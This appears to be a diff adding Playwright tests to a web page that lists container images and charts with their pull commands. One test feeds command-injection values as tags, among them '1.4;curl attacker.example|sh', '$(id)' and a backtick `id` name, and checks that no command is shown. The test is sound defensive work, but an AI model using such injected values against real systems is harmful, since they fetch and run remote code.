@@ -4,10 +4,12 @@ import gzip
 import re
 from collections.abc import Callable, Iterator
 from contextlib import AbstractContextManager
+from urllib.parse import urlencode
 
 import pytest
-from playwright.sync_api import Response, expect
+from playwright.sync_api import Response, Route, expect
 
+from lambda_fn.job.catalogue import shards
 from lambda_fn.settings import Page, Settings
 from testbed.sandbox.browser import NARROW, WIDE, Chromium, Tab, chromium, texts
 from testbed.sandbox.pod import Pod
@@ -52,6 +54,20 @@ def catalogue(serving: Pod) -> Catalogue:
 
 def commands(of: Tab, view: str) -> list[str]:
     return texts(of.page, f"{view} .commands code")
+
+
+def of_every_kind(world: World, repository: str, tag: str, version: str) -> list[str]:
+    """The commands for what may be an image, a chart or an artifact."""
+    name = f"{world.domain}/{repository}"
+    return [
+        f"docker pull {name}:{tag}",
+        f"nerdctl pull {name}:{tag}",
+        f"ctr images pull {name}:{tag}",
+        f"helm pull oci://{name} --version {version}",
+        f"oras pull {name}:{tag}",
+        f"FROM {name}:{tag}",
+        f"image: {name}:{tag}",
+    ]
 
 
 def path(of: Tab) -> str:
@@ -110,11 +126,75 @@ def test_what_could_not_be_read_is_read_again(opens: Opens, serving: Pod, catalo
     serving.mount("catalogue", {"index.json.gz": files["index.json.gz"]})
     with opens() as found:
         page = found.open("/?repository=team/app")
-        expect(page.locator("#repository")).to_contain_text("cannot be read")
+        expect(page.locator("#repository")).to_contain_text("does not list the 4 tags")
         serving.mount("catalogue", files)
         page.get_by_role("link", name="All repositories").click()
         page.go_back()
         expect(page.locator(".tags li")).to_have_count(4)
+
+
+@pytest.mark.parametrize("status", [429, 502, None], ids=["a limit", "a failure", "no network"])
+def test_what_cannot_be_read_is_not_called_missing_and_its_commands_are_there(
+    opens: Opens, world: World, status: int | None
+) -> None:
+    def fail(route: Route) -> None:
+        if status:
+            route.fulfill(status=status)
+        else:
+            route.abort()
+
+    with opens() as found:
+        found.page.route("**/-/catalogue/index.json", fail)
+        page = found.open()
+        expect(page.locator("#found")).to_have_text("The catalogue cannot be read. Try again in a minute.")
+        page = found.open("/?repository=team/app&tag=1.3")
+        expect(page.locator("#repository .lead")).to_have_text("The catalogue cannot be read. Try again in a minute.")
+        expect(page.locator("#repository")).not_to_contain_text("allow-list")
+        assert commands(found, "#repository") == of_every_kind(world, "team/app", "1.3", "1.3")
+        page = found.open("/?repository=team/app")
+        assert commands(found, "#repository") == of_every_kind(world, "team/app", "TAG", "VERSION")
+        found.page.unroute("**/-/catalogue/index.json")
+        found.page.route(re.compile("/-/catalogue/[0-9]+[.]json"), fail)
+        page = found.open("/?repository=team/app&tag=1.3")
+        expect(page.locator("#repository .lead")).to_contain_text("tags of this repository cannot be read")
+        assert commands(found, "#repository") == of_every_kind(world, "team/app", "1.3", "1.3")
+
+
+def test_a_catalogue_that_may_lack_a_repository_says_so(
+    opens: Opens, serving: Pod, world: World, catalogue: Catalogue
+) -> None:
+    address, expected = "/?repository=team/new&tag=2", of_every_kind(world, "team/new", "2", "2")
+    serving.mount("catalogue", {})
+    with opens() as found:
+        expect(found.open(address).locator("#repository .lead")).to_contain_text("The catalogue is not there yet")
+        assert commands(found, "#repository") == expected
+        catalogue.complete = False
+        serving.mount("catalogue", catalogue.files())
+        expect(found.open(address).locator("#repository .lead")).to_contain_text(
+            "the first look into ECR is not complete"
+        )
+        assert commands(found, "#repository") == expected
+
+
+def test_tags_that_the_shard_does_not_have_are_not_denied(
+    opens: Opens, serving: Pod, world: World, catalogue: Catalogue
+) -> None:
+    earlier = catalogue.files()
+    catalogue.add("team/new", catalogue.image("team/new", "2.0"))
+    catalogue.add("team/empty")
+    late = earlier | {"index.json.gz": catalogue.files()["index.json.gz"]}
+    names_alone = catalogue.files(first_extent=len(shards.EXTENTS) - 1)
+    for files in (late, names_alone):
+        serving.mount("catalogue", files)
+        with opens() as found:
+            page = found.open("/?repository=team/new")
+            expect(page.locator("#repository .lead")).to_contain_text("does not list the 2 tags of this repository now")
+            assert commands(found, "#repository") == of_every_kind(world, "team/new", "TAG", "VERSION")
+            page = found.open("/?repository=team/new&tag=2.0")
+            expect(page.locator("#repository")).not_to_contain_text("not among the newest")
+            assert commands(found, "#repository") == of_every_kind(world, "team/new", "2.0", "2.0")
+            page = found.open("/?repository=team/empty")
+            expect(page.locator("#repository")).to_contain_text("No image of this repository has a tag.")
 
 
 def test_more_rows_come_on_demand(opens: Opens) -> None:
@@ -168,6 +248,35 @@ def test_a_chart_is_pulled_by_helm_and_its_version_has_a_plus(opens: Opens, worl
             f"helm pull oci://{world.domain}/team/charts/web --version 2.3.1+build.7",
             f"oras pull {world.domain}/team/charts/web:2.3.1_build.7",
         ]
+
+
+def test_an_older_tag_is_of_the_kinds_of_the_newest_ones(
+    opens: Opens, serving: Pod, world: World, catalogue: Catalogue
+) -> None:
+    catalogue.add("team/mixed", *(catalogue.image("team/mixed", kind, kind=kind) for kind in ("chart", "image")))
+    serving.mount("catalogue", catalogue.files())
+    with opens() as found:
+        page = found.open("/?repository=team/charts/web&tag=1.0.0_build.1")
+        expect(page.locator("#repository")).to_contain_text("not among the newest")
+        assert commands(found, "#repository") == [
+            f"helm pull oci://{world.domain}/team/charts/web --version 1.0.0+build.1",
+            f"oras pull {world.domain}/team/charts/web:1.0.0_build.1",
+        ]
+        found.open("/?repository=team/mixed&tag=0.1")
+        assert commands(found, "#repository") == of_every_kind(world, "team/mixed", "0.1", "0.1")
+
+
+@pytest.mark.parametrize("tag", ["1.4;curl attacker.example|sh", "$(id)", "-1", "1.4 --privileged", "x" * 129])
+def test_a_link_cannot_add_to_a_command(opens: Opens, tag: str) -> None:
+    with opens() as found:
+        for name in ("team/app", "team/app`id`"):
+            page = found.open(f"/?{urlencode({'repository': name, 'tag': tag})}")
+            expect(page.locator("#repository h1")).to_have_text(name)
+            assert commands(found, "#repository") == []
+        found.page.route("**/-/catalogue/index.json", lambda route: route.abort())
+        page = found.open(f"/?{urlencode({'repository': 'team/app', 'tag': tag})}")
+        expect(page.locator("#repository")).to_contain_text("not a valid name")
+        assert commands(found, "#repository") == []
 
 
 def test_a_deep_link_shows_its_tag_and_the_back_button_leads_back(opens: Opens, world: World) -> None:
